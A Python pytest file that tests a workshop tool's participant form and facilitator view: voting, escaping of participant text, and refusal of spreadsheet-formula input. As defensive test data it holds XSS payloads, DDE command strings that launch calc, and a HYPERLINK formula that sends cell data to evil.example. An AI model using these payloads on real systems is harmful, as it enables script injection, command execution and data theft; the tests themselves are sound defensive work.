"""The participant controls and the facilitator view, driven from Python (no browser)."""

from __future__ import annotations

import html
import re
from pathlib import Path

import ipywidgets as w
import pytest

import journeytools as jt
from journeytools.room import FacilitatorView, ParticipantRoom, participant_room
from journeytools.room import _data as data
from journeytools.room.render import budget_html, message_html

from helpers import write_workshop

PAYLOAD = '<img src=x onerror="alert(1)">'


def html_of(view: FacilitatorView) -> str:
    return "".join(x.value for x in (view.header, view.status, view.totals, view.stage_bars,
                                      view.heatmap_table, view.pains, view.ideas))


def unescaped_markup(html: str) -> list[str]:
    return re.findall(r"<(?:img|script|i|em)\b", html)


def test_participant_adds_pain_idea_and_vote(luggage: Path) -> None:
    room = ParticipantRoom(luggage)
    assert room.stage.value == "awareness"
    room.stage.value = "purchase"
    assert {v for _, v in room.touchpoint.options} == {"cart", "checkout", "support-chat",
                                                        "phone-order", "competitor-shop"}
    room.touchpoint.value = "checkout"
    room.persona.value = "mia"
    room.description.value = "  Klarna option missing on mobile\t"
    room.severity.value, room.frequency.value = 4, 2
    room._act(room.add_pain_button, room.pain_msg, room.add_pain_point)
    assert "jt-msg-ok" in room.pain_msg.value, room.pain_msg.value
    ws = jt.load(luggage)
    row = ws.pain_points.iloc[-1]
    assert (row["touchpoint"], row["persona"], int(row["severity"]), int(row["frequency"])) == \
        ("checkout", "mia", 4, 2)
    assert row["description"] == "  Klarna option missing on mobile\t"  # kept exactly as typed
    assert room.description.value == ""
    new_id = row["id"]
    # the confirmation speaks the participant's words and the map's names, not ids
    assert "“Klarna option missing on mobile” is on the map at Purchase, Checkout and payment" \
        in room.pain_msg.value, room.pain_msg.value
    assert new_id not in room.pain_msg.value and "checkout" not in room.pain_msg.value

    room.idea_title.value = "Show Klarna on mobile"
    room.idea_addresses.value = (new_id,)
    room.idea_impact.value = 2.0
    room._act(room.add_idea_button, room.idea_msg, room.add_idea)
    assert "jt-msg-ok" in room.idea_msg.value, room.idea_msg.value
    opp = jt.load(luggage).opportunities.iloc[-1]
    assert (opp["addresses"], float(opp["impact"]), opp["status"]) == (new_id, 2.0, "idea")
    assert "Your idea “Show Klarna on mobile” is on the list" in room.idea_msg.value
    assert opp["id"] not in room.idea_msg.value

    room.name.value = "Noor"
    assert new_id in {v for _, v in room.vote_item.options}
    room.vote_item.value = new_id
    room.dots.value = 3
    room._act(room.vote_button, room.vote_msg, room.vote)
    assert "You put 3 dots on “Klarna option missing on mobile”. 2 dots left." in room.vote_msg.value
    assert new_id not in room.vote_msg.value
    assert "<b class=\"jt-dots-left\">2</b> of 5" in room.budget.value
    votes = jt.load(luggage).votes
    assert ((votes["voter"] == "Noor") & (votes["item"] == new_id)).sum() == 1


def test_participant_messages_for_refusals(luggage: Path) -> None:
    room = ParticipantRoom(luggage)
    room._act(room.vote_button, room.vote_msg, room.vote)
    assert "enter your name" in room.vote_msg.value
    room.name.value = "=cmd|calc"
    room._act(room.vote_button, room.vote_msg, room.vote)
    assert "formulas" in room.vote_msg.value
    room.name.value = "lena"  # already spent all 5 dots in the example
    assert "<b class=\"jt-dots-left\">0</b>" in room.budget.value
    room._act(room.vote_button, room.vote_msg, room.vote)
    assert "jt-msg-error" in room.vote_msg.value and "0 of 5 dots left" in room.vote_msg.value
    room._act(room.add_pain_button, room.pain_msg, room.add_pain_point)
    assert "must not be blank" in room.pain_msg.value
    room._act(room.add_idea_button, room.idea_msg, room.add_idea)
    assert "must not be blank" in room.idea_msg.value


@pytest.mark.parametrize("field, text, lead", [
    ("description", '=HYPERLINK("https://evil.example/?"&A1,"click")', "="),
    ("description", "-2+3+cmd|' /C calc'!A0", "-"),
    ("idea_title", "@SUM(1+1)", "@"),
    ("idea_title", "+31 20 555 0100 called", "+"),
    ("idea_description", "\t=1+1", "\t"),
])
def test_participant_formula_text_is_refused_and_nothing_is_written(luggage: Path, field: str,
                                                                    text: str, lead: str) -> None:
    """Participants are not trusted as the facilitator is: text that a spreadsheet opening the
    CSV would run is refused with a message saying why, and the form keeps it for editing."""
    room = ParticipantRoom(luggage)
    room.stage.value = "purchase"
    room.touchpoint.value = "checkout"
    room.description.value = "Checkout is slow"
    room.idea_title.value = "Faster checkout"
    getattr(room, field).value = text
    before = {p.name: p.read_bytes() for p in luggage.glob("*.csv")}
    if field == "description":
        button, msg, act = room.add_pain_button, room.pain_msg, room.add_pain_point
    else:
        button, msg, act = room.add_idea_button, room.idea_msg, room.add_idea
    room._act(button, msg, act)
    assert "jt-msg-error" in msg.value, msg.value
    assert f"cannot start with {lead!r}" in html.unescape(msg.value), msg.value
    assert "a spreadsheet would run it as a formula" in msg.value
    assert {p.name: p.read_bytes() for p in luggage.glob("*.csv")} == before
    assert getattr(room, field).value == text  # kept in the form, to be reworded
    getattr(room, field).value = "Ten seconds per page: " + text  # starting with a word is fine
    room._act(button, msg, act)
    assert "jt-msg-ok" in msg.value, msg.value
    assert jt.validate(luggage).ok


def test_participant_text_is_escaped(luggage: Path) -> None:
    room = ParticipantRoom(luggage)
    room.name.value = "<b>Lou</b>"
    assert "&lt;b&gt;Lou&lt;/b&gt;" in room.budget.value
    assert "<b>Lou" not in room.budget.value
    assert message_html(PAYLOAD, "error").count("<img") == 0
    assert "&lt;script&gt;" in budget_html(1, 5, "<script>")


def test_stage_filter_and_refresh_show_other_participants_items(luggage: Path) -> None:
    room = ParticipantRoom(luggage)
    labels = [label for label, _ in room.vote_item.options]
    assert labels and all(label.startswith(("Pain · ", "Idea · ")) for label in labels)
    pid = jt.add_pain_point(luggage, persona="*", touchpoint="instagram-post",
                            description="Nobody answers comments", severity=2, frequency=3)
    assert pid not in {v for _, v in room.vote_item.options}
    room.reload()
    assert pid in {v for _, v in room.vote_item.options}
    room.stage.value = "delivery"
    assert pid not in {v for _, v in room.vote_item.options}
    room.all_stages.value = True
    assert pid in {v for _, v in room.vote_item.options}


def test_facilitator_view_escapes_participant_markup(luggage: Path) -> None:
    meta = luggage / "workshop.yml"
    meta.write_text(meta.read_text(encoding="utf-8").replace(
        "title: Online luggage store — purchase journey", 'title: "Bags & <i>more</i>"'),
        encoding="utf-8")
    jt.add_pain_point(luggage, persona="*", touchpoint="cart", description=PAYLOAD,
                      severity=5, frequency=5)
    jt.add_opportunity(luggage, title="<script>alert('idea')</script>", description=PAYLOAD)
    jt.add_vote(luggage, voter="<em>Eve</em>", item="cart-error")
    view = FacilitatorView(luggage, heatmap=lambda ws: None)
    html = html_of(view)
    assert unescaped_markup(html) == []
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in view.pains.value
    assert "&lt;script&gt;alert(&#39;idea&#39;)&lt;/script&gt;" in view.ideas.value
    assert "Bags &amp; &lt;i&gt;more&lt;/i&gt;" in view.header.value
    assert "jt-heatmap" in view.heatmap_table.value


def test_facilitator_refreshes_only_on_change(luggage: Path) -> None:
    view = FacilitatorView(luggage, heatmap=lambda ws: None)
    first = view.refreshes
    assert view.refresh() is False
    jt.add_vote(luggage, voter="zed", item="no-pink")
    assert view.refresh() is True
    assert view.refreshes == first + 1
    dots = int(jt.load(luggage).votes["votes"].sum())
    assert f'data-what="dots spent" style="font-size:2em;font-weight:bold">{dots}<' in view.totals.value


def test_facilitator_polls_in_background(luggage: Path) -> None:
    import time

    view = FacilitatorView(luggage, interval=0.1, heatmap=lambda ws: None)
    assert view.live.value is False
    view.start()
    assert view.live.value is True
    try:
        jt.add_pain_point(luggage, persona="*", touchpoint="cart",
                          description="Polled pain", severity=5, frequency=5)
        deadline = time.monotonic() + 10
        while "Polled pain" not in view.pains.value and time.monotonic() < deadline:
            time.sleep(0.05)
        assert "Polled pain" in view.pains.value
        view.live.value = False  # the facilitator unticks "refresh"
        assert view._thread is None
    finally:
        view.stop()


def test_facilitator_heatmap_image_and_fallbacks(luggage: Path) -> None:
    png = b"\x89PNG\r\n\x1a\nfake"
    view = FacilitatorView(luggage, heatmap=lambda ws: png)
    assert view.heatmap_image.value == png and view.heatmap_table.value == ""
    assert view.heatmap_image.layout.display is None

    def broken(ws: jt.Workshop) -> bytes:
        raise RuntimeError("no fonts")

    view = FacilitatorView(luggage, heatmap=broken)
    assert "heatmap unavailable: no fonts" in view.status.value
    assert "jt-heatmap" in view.heatmap_table.value
    assert "Top 10 pain points" in view.pains.value  # the rest still renders


def test_default_heatmap_uses_charts_or_falls_back(luggage: Path) -> None:
    view = FacilitatorView(luggage)
    try:
        import journeytools.charts  # noqa: F401
    except Exception:
        assert "jt-heatmap" in view.heatmap_table.value
    else:
        assert view.heatmap_image.value[:4] == b"\x89PNG" or "jt-heatmap" in view.heatmap_table.value


def test_room_folder_from_environment(luggage: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(data.ROOM_DIR_ENV, raising=False)
    with pytest.raises(ValueError, match=data.ROOM_DIR_ENV):
        participant_room()
    monkeypatch.setenv(data.ROOM_DIR_ENV, str(luggage))
    assert participant_room().folder == luggage.resolve()


def test_folder_being_saved_keeps_last_good_view(luggage: Path) -> None:
    view = FacilitatorView(luggage, heatmap=lambda ws: None)
    good = view.pains.value
    (luggage / "votes.csv").write_text("voter,item\nann,not-an-item\n", encoding="utf-8")
    assert view.refresh() is False
    assert view.pains.value == good
    assert "could not read the folder" in view.status.value


def test_empty_lists_say_why_and_what_to_do(tmp_path: Path) -> None:
    """A stage with no pain points yet: the "Relieves" and "Vote for" lists are hidden and a
    hint says why and what to do, instead of an empty box."""
    room = ParticipantRoom(write_workshop(tmp_path / "ws"))
    assert room.stage.value == "need"  # the bike shop's first stage has no pain points
    assert room.idea_addresses.options == () and room.idea_addresses.layout.display == "none"
    hint = html.unescape(room.addresses_hint.value)
    assert "Relieves:" in hint and "no pain points in Need arises yet" in hint
    assert room.vote_item.options == () and room.vote_item.layout.display == "none"
    assert "tick “show items of every stage”" in html.unescape(room.vote_hint.value)
    room.all_stages.value = True  # every stage's items: there is something to vote for
    assert room.vote_item.options and room.vote_item.layout.display is None
    assert room.vote_hint.value == ""
    room.stage.value = "booking"
    assert room.idea_addresses.options and room.idea_addresses.layout.display is None
    assert room.addresses_hint.value == ""
    assert room.touchpoint.layout is not room.idea_addresses.layout  # hiding one hides only it


def test_journey_strip_shows_where_the_participant_is(tmp_path: Path) -> None:
    room = ParticipantRoom(write_workshop(tmp_path / "ws"))
    room.stage.value = "booking"
    strip = room.journey.value
    assert re.findall(r'<li aria-current="step"[^>]*>([^<]*)</li>', strip) == ["2. Booking"]
    assert strip.count("<li") == 3 and "stage 2 of 3" in strip
    room.persona.value = "commuter"
    assert "What Carla the commuter does here" in room.journey.value
    assert "Looks for a same-day slot" in room.journey.value
    room.stage.value = "need"
    room.persona.value = "racer"
    assert "Ravi the racer has no steps in this stage" in room.journey.value
    room.persona.value = "*"
    assert "does here" not in room.journey.value and "no steps" not in room.journey.value


def test_messages_are_live_regions_under_their_buttons(luggage: Path) -> None:
    """Every message area carries the class the page template turns into an aria-live region,
    and sits under its button in one column (never beside it, squeezing it on a phone)."""
    room = ParticipantRoom(luggage)
    for msg in (room.name_msg, room.refresh_msg, room.pain_msg, room.idea_msg, room.vote_msg):
        assert "jt-live" in msg._dom_classes
    sections = [c for c in room.widget.children if hasattr(c, "children")]
    for button, msg in ((room.add_pain_button, room.pain_msg), (room.add_idea_button, room.idea_msg),
                        (room.vote_button, room.vote_msg)):
        kids = next(list(s.children) for s in sections if button in s.children)
        assert kids.index(msg) == kids.index(button) + 1
    assert not any(isinstance(c, w.HBox) for s in sections for c in s.children)
    assert "<h1" in room.header.value
    assert all("<h1" not in v for v in html_values(room.widget)[1:])  # one h1 per page


def html_values(widget: w.Widget) -> list[str]:
    if isinstance(widget, w.HTML):
        return [widget.value]
    return [v for child in getattr(widget, "children", ()) for v in html_values(child)]


def test_facilitator_numbers_use_the_one_format(luggage: Path) -> None:
    """The facilitator's numbers read as everywhere else (``vocab.number``: "1,213.3")."""
    from journeytools.room import render as R
    from journeytools.scoring import opportunity_table, pain_table, stage_pain
    from journeytools.vocab import number

    ws = jt.load(luggage)
    pains, ideas = R.pain_ranking_html(ws), R.idea_ranking_html(ws)
    for r in pain_table(ws).head(10).itertuples():
        assert f">{number(r.weighted_pain)}</td>" in pains
    scored = opportunity_table(ws)
    for r in scored[scored["scored"]].head(10).itertuples():
        assert f">{number(r.rice)}</td>" in ideas
    bars = R.stage_bars_html(ws)
    assert all(f">{number(p)}</td>" in bars for p in stage_pain(ws)["pain"])
